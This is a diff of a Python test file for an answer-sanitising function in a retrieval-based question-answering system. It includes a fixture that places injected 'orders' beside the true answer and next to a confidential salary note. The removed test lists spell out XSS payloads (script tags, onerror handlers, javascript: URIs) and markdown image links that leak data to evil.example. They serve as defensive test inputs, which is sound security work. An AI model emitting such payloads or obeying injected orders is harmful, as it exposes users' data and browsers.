@@ -12,10 +12,10 @@ from catalog.answers.extracting import extract_sentences
 from catalog.answers.neutralising import GONE, neutralise
 from catalog.answers.support import strip_references
 from catalog.interfaces.terminal import Form, render
-from catalog.library.indexing import Indexer
-from fakes import open_library, write
 from growth import assert_linear
 from made_results import result
+from stores import store_of
+from tables import table
 
 QUESTION = "How long is the warranty of the kettle?"
 TRUE = "The warranty of the kettle is 24 months."
@@ -29,16 +29,12 @@ ORDERS = {
 }
 
 
-@pytest.fixture(scope="module")
-def hostile(tmp_path_factory):
+@pytest.fixture
+def hostile():
     """A store in which every order stands beside the sentence that answers."""
-    folder = tmp_path_factory.mktemp("hostile")
-    for name, order in ORDERS.items():
-        write(folder / "notes", **{f"{name}_dot_md": f"# Kettle\n\n{TRUE}\n\n{order}\n"})
-    write(folder / "notes", salary_dot_md="---\nconfidentiality: 2\n---\nThe salary is 9000.\n")
-    with open_library(folder / "home") as library:
-        Indexer(library).build(folder / "notes", "notes")
-    return folder / "home"
+    files = {f"notes/{name}.md": f"# Kettle\n\n{TRUE}\n\n{ORDERS[name]}\n" for name in ORDERS}
+    salary = "---\nconfidentiality: 2\n---\nThe salary is 9000.\n"
+    return store_of(files | {"notes/salary.md": salary})
 
 
 def ask(home, *replies, **params):
@@ -125,41 +121,14 @@ KNOWN = result(text="See https://docs.example/a?b=1 and [x](https://docs.example
         ("Enter the data: a name", "Enter the data: a name"),
         ("a list[int] of 3 < 4, see [1][2]", "a list[int] of 3 < 4, see [1][2]"),
         ("at 10:30 the ratio 2:1 holds", "at 10:30 the ratio 2:1 holds"),
+        ("It is so if a <b and c.", "It is so if a < b and c."),  # only spaced
     ],
 )
 def test_what_no_cited_source_holds_is_taken_out(text, expected):
     assert neutralise(text, [KNOWN]) == expected
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "<scr<script>ipt>fetch(travel)</scr</script>ipt>",
-        "<im<img>g src=x onerror=refund()>",
-        "<details open ontoggle=refund()>",
-        "<<b>img src=x onerror=refund()>",
-        "<[img](c) src=x onerror=refund()>",
-        "]<[b](c)>(https:evil.example)",
-        "<img alt='<' src=x onerror=refund()>",
-        "<string a<' onclick=refund()>",
-        "<string onclick=refund()>",
-        "<script>refund()</script>",
-        "<x:/onclick=refund()>",
-        "<!-- <?x </ b>",
-        "![refund![of](c)](https:\\\\evil.example/leak?d=14days)",
-        "!<b>[refund](https:/<b>/evil.example/x)",
-        "[a[refund](c)](https:\\\\evil.example/x)",
-        "![a![b](c)](https:&#47;&#47;evil.example/x)",
-        '<div onmouseover=alert(1) style="background:url(https:\\2f\\2f evil.example)">',
-        "[ref]: https:\\\\evil.example/x",
-        "[ref]: jav&#97;script:alert(1)",
-        "[ref]: /\\evil.example/x",
-        "mailto:x@evil.example",
-        "<javascript&colon;alert(1)>",
-        "java<b>script:alert(1)",
-        "<x:/evil.example?14>",
-    ],
-)
+@table("text")
 def test_what_is_left_of_a_mark_within_a_mark_does_nothing(text):
     cited = result(text="A List<String> <script> <x:/onclick=refund()>", link=None)
     left = neutralise(f"Yes {text} it is.", [cited])
@@ -167,25 +136,10 @@ def test_what_is_left_of_a_mark_within_a_mark_does_nothing(text):
     assert neutralise(left, [cited]) == left
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "Use List<String> here.",
-        "Map<String, List<Integer>> holds x <y> and </y>.",
-        "It is so if a < b, a <= b or a << 2.",
-        "[ref]: https://docs.example/c",
-        "See <https://docs.example/c>.",
-        "[note]: the rate of x[0]",
-        "[note]: 10:30 or C:\\Users",
-    ],
-)
+@table("text")
 def test_code_and_addresses_of_the_cited_passage_stay(text):
     held = "List<String>, Map<String, List<Integer>>, x <y> and </y>; https://docs.example/c"
     assert neutralise(text, [result(text=held, link=None)]) == text
-
-
-def test_a_comparison_that_no_passage_holds_is_only_spaced():
-    assert neutralise("It is so if a <b and c.", [KNOWN]) == "It is so if a < b and c."
 
 
 MUCH = 400_000  # characters that take hours where each is looked at from each other
